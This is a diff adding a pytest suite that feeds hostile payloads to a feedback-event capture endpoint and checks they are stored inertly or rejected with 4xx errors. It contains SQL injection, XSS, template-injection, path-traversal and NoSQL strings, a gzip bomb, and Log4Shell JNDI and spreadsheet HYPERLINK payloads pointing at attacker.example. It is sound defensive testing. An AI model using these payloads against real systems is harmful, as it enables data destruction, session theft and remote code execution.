@@ -1,0 +1,127 @@
+"""A corpus of hostile payloads against the capture endpoint: each gets a 4xx JSON answer that
+says what is wrong, or is stored as inert text, exactly as sent. Never a 5xx."""
+
+import gzip
+import json
+
+import pytest
+
+from feedback_loop.models import FeedbackEvent
+from tests.conftest import EVENTS_URL, make_event
+
+pytestmark = pytest.mark.django_db
+
+INJECTIONS = [
+    "'; DROP TABLE feedback_loop_feedbackevent; --",
+    '" OR 1=1 --',
+    "1); DELETE FROM feedback_loop_trace WHERE (1=1",
+    "<script>alert(document.cookie)</script>",
+    '<img src=x onerror="alert(1)">',
+    "javascript:alert(1)",
+    "{{7*7}} {% debug %} ${7*7} #{7*7}",
+    "${jndi:ldap://attacker.example/a}",
+    "../../../../etc/passwd",
+    '=HYPERLINK("http://attacker.example","x")',
+    "\u202etxt.exe",  # right-to-left override
+    "ﷺ" * 50 + "\U0001f4a9" * 50,
+]
+TEXT_FIELDS = ["comment", "text", "name", "session_id", "user_id", "output"]
+
+
+@pytest.mark.parametrize("field", TEXT_FIELDS)
+@pytest.mark.parametrize("payload", INJECTIONS)
+def test_injection_strings_are_stored_as_inert_text(project, post_events, field, payload):
+    fields = {"kind": "custom", "name": "n", field: payload[:64] if field == "name" else payload}
+    if field in ("session_id", "user_id"):
+        fields[field] = payload[:128]
+    event = make_event(project, **fields)
+    response = post_events(project, [event])
+    assert response.status_code == 200
+    assert response.json()["results"][0]["status"] == "accepted"
+    stored = FeedbackEvent.objects.get(event_id=event["event_id"])
+    assert getattr(stored, field) == fields[field]
+    assert FeedbackEvent.objects.count() == 1  # the table is still there, with one row
+
+
+@pytest.mark.parametrize("payload", INJECTIONS)
+def test_injection_strings_in_ids_reasons_and_metadata(project, post_events, payload):
+    event = make_event(
+        project,
+        trace_id=payload[:128],
+        reasons=[payload[:64]],
+        metadata={payload[:100]: payload},
+    )
+    response = post_events(project, [event])
+    assert response.status_code == 200, response.content
+    stored = FeedbackEvent.objects.get()
+    assert stored.trace_key == payload[:128]
+    assert stored.reasons == [payload[:64]]
+    assert stored.metadata == {payload[:100]: payload}
+
+
+@pytest.mark.parametrize(
+    ("field", "value"),
+    [
+        ("event_id", "'; DROP TABLE x; --"),
+        ("kind", "<script>"),
+        ("value", "1 OR 1=1"),
+        ("timestamp", "2026-01-01'; --"),
+        ("token", {"$ne": None}),
+    ],
+)
+def test_injection_where_a_typed_value_belongs_is_a_field_error(project, post_events, field, value):
+    event = make_event(project, **{field: value})
+    body = post_events(project, [event]).json()
+    [result] = body["results"]
+    assert result["status"] == "rejected"
+    assert result["error"]["field"] == field and result["error"]["message"]
+
+
+def test_a_gzip_bomb_is_refused_unread(project, client):
+    bomb = gzip.compress(b"{" + b" " * 50_000_000 + b"}")  # 50 MB of spaces in 49 KB
+    response = client.post(
+        EVENTS_URL, data=bomb, content_type="application/json", HTTP_CONTENT_ENCODING="gzip"
+    )
+    assert response.status_code == 415
+    assert "Content-Encoding" in response.json()["error"]["message"]
+
+
+def test_a_gzip_body_without_its_header_is_not_json(project, client):
+    body = gzip.compress(json.dumps({"key": project.public_key, "events": []}).encode())
+    response = client.post(EVENTS_URL, data=body, content_type="application/json")
+    assert response.status_code == 400
+    assert response.json()["error"]["code"] in ("invalid_encoding", "invalid_json")
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        b"[" * 100_000 + b"]" * 100_000,
+        b'{"events": [' + b'{"a":' * 50_000 + b"1" + b"}" * 50_000 + b"]}",
+        b'{"events": "' + b"A" * 2_000_000 + b'"}',
+        b"\xff\xfe\x00\x00",
+        b'{"events": [1e999999]}',
+        b'{"key": "\\ud800", "events": []}',
+        b"null",
+        b"",
+    ],
+)
+def test_malformed_bodies_get_a_4xx_json_answer(project, client, body):
+    response = client.post(EVENTS_URL, data=body, content_type="application/json")
+    assert 400 <= response.status_code < 500
+    error = response.json()["error"]
+    assert error["code"] and error["message"]
+
+
+def test_the_longest_token_sign_trace_makes_still_verifies(project, post_events):
+    # 128 characters outside the BMP in the trace id and the user id: JSON escapes each as
+    # 12 bytes, so the token is several kilobytes.
+    from feedback_loop import sign_trace
+    from feedback_loop.internal.tokens import MAX_TOKEN_CHARS
+
+    trace_id, user_id = "\U0001f4a9" * 128, "\U0001f600" * 128
+    token = sign_trace(trace_id, project=project, user_id=user_id)
+    assert 4000 < len(token) < MAX_TOKEN_CHARS
+    event = make_event(project, trace_id=trace_id, token=token)
+    assert post_events(project, [event]).json()["accepted"] == 1
+    assert FeedbackEvent.objects.get().user_id == user_id
